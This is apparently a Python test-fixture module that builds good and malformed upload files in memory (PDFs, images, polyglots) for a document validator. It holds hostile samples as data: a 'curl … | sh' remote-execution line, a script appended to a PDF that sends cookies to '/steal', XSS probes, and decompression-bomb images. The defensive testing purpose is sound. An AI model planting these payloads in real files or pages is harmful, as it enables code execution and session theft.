"""Builders for good and bad files, made in memory so the tests carry no binary fixtures."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import zipfile
import zlib

from PIL import Image

# --------------------------------------------------------------------------- PDF


def _pdf(
    objects: list[bytes], *, trailer_extra: bytes = b"", header: bytes = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
) -> bytes:
    """Assemble numbered objects (1-based) into a PDF with a correct xref table."""
    out = io.BytesIO()
    out.write(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    )
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _escape(text: str) -> bytes:
    return text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def pdf(
    pages: int = 1,
    *,
    text: str = "Poder notarial de representacio",
    size: tuple[float, float] = (595, 842),
    encrypt=None,
) -> bytes:
    """A text PDF (Helvetica) with ``pages`` pages; ``encrypt`` is an ``Rc4Encryption`` or None."""
    page_ids = [4 + 2 * i for i in range(pages)]
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % i for i in page_ids), pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for i in range(pages):
        content = b"BT /F1 18 Tf 72 %d Td (%s) Tj ET" % (int(size[1]) - 100, _escape(f"{text} - pagina {i + 1}"))
        if encrypt is not None:
            content = encrypt.encrypt_object(5 + 2 * i, content)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %s %s] /Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>"
            % (str(size[0]).encode(), str(size[1]).encode(), 5 + 2 * i)
        )
        objects.append(_stream(content))
    trailer_extra = b""
    if encrypt is not None:
        objects.append(encrypt.dictionary())
        trailer_extra = b"/Encrypt %d 0 R /ID [<%s> <%s>] " % (
            len(objects),
            encrypt.file_id.hex().encode(),
            encrypt.file_id.hex().encode(),
        )
    return _pdf(objects, trailer_extra=trailer_extra)


def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = bytearray()
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


class Rc4Encryption:
    """PDF Standard security handler, revision 2 (40-bit RC4): PDF 1.7 spec, algorithms 2-4."""

    def __init__(
        self, *, user_password: str = "", owner_password: str = "owner-secret", permissions: int = -44
    ) -> None:
        self.file_id = hashlib.md5(b"documents-test").digest()
        self.permissions = permissions
        user = (user_password.encode("latin-1") + _PAD)[:32]
        owner = (owner_password.encode("latin-1") + _PAD)[:32]
        self.o = _rc4(hashlib.md5(owner).digest()[:5], user)
        self.key = hashlib.md5(user + self.o + struct.pack("<i", permissions) + self.file_id).digest()[:5]
        self.u = _rc4(self.key, _PAD)

    def dictionary(self) -> bytes:
        return b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (
            self.o.hex().encode(),
            self.u.hex().encode(),
            self.permissions,
        )

    def encrypt_object(self, number: int, data: bytes) -> bytes:
        key = hashlib.md5(self.key + struct.pack("<i", number)[:3] + b"\x00\x00").digest()[: len(self.key) + 5]
        return _rc4(key, data)


def pdf_huge_page() -> bytes:
    """One page of 200 x 200 inches (the PDF maximum): 3.6 gigapixels at 300 dpi."""
    return pdf(1, size=(14400, 14400))


def pdf_garbage() -> bytes:
    return (
        b"%PDF-1.7\n"
        + bytes(random.Random(3).getrandbits(8) for _ in range(4000)).replace(b"%%EOF", b"")
        + b"\n%%EOF\n"
    )


# --------------------------------------------------------------------------- images


def _noise(size: tuple[int, int], mode: str = "RGB", seed: int = 1) -> Image.Image:
    rng = random.Random(seed)
    bands = len(mode)
    raw = rng.randbytes(size[0] * size[1] * bands)
    return Image.frombytes(mode, size, raw)


def jpeg(size: tuple[int, int] = (240, 160), *, comment: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    kwargs = {"comment": comment} if comment else {}
    _noise(size).save(buffer, format="JPEG", quality=85, **kwargs)
    return buffer.getvalue()


def png(size: tuple[int, int] = (200, 120), seed: int = 2) -> bytes:
    buffer = io.BytesIO()
    _noise(size, seed=seed).save(buffer, format="PNG")
    return buffer.getvalue()


def tiff(pages: int = 1, size: tuple[int, int] = (160, 100)) -> bytes:
    frames = [_noise(size, mode="L", seed=10 + i) for i in range(pages)]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="TIFF", save_all=True, append_images=frames[1:], compression="tiff_deflate")
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int) -> bytes:
    """A valid-looking PNG header (correct CRCs) claiming ``width`` x ``height`` RGB pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


# --------------------------------------------------------------------------- not documents


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("poder.txt", "no soc un document valid " * 20)
    return buffer.getvalue()


def docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Poder</w:t></w:r></w:p></w:body></w:document>",
        )
    return buffer.getvalue()


HTML = b"<!DOCTYPE html>\n<html><head><title>Poder</title></head><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>\n'
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200


def jpeg_zip_polyglot() -> bytes:
    return jpeg() + zip_archive()


def pdf_with_html() -> bytes:
    return pdf() + b"<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>\n" + b" " * 3000


def jpeg_with_html_comment() -> bytes:
    return jpeg(comment=b"<html><script>alert(1)</script></html>")


def tiff_g4(pages: int = 2, size: tuple[int, int] = (1700, 2200)) -> bytes:
    """Bilevel CCITT group 4 pages, as office scanners and fax servers produce them."""
    frames = []
    for i in range(pages):
        image = Image.new("1", size, 1)
        image.paste(0, (100 + 50 * i, 100, 900, 160))
        frames.append(image)
    buffer = io.BytesIO()
    frames[0].save(buffer, format="TIFF", save_all=True, append_images=frames[1:], compression="group4")
    return buffer.getvalue()


def png_16bit(size: tuple[int, int] = (300, 200)) -> bytes:
    image = Image.new("I;16", size)
    image.paste(40000, (0, 0, size[0] // 2, size[1]))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg_rotated(size: tuple[int, int] = (400, 200), orientation: int = 6) -> bytes:
    """Stored landscape with EXIF "rotate 90° clockwise" (a phone held upright)."""
    image = _noise(size)
    exif = Image.Exif()
    exif[0x0112] = orientation
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()
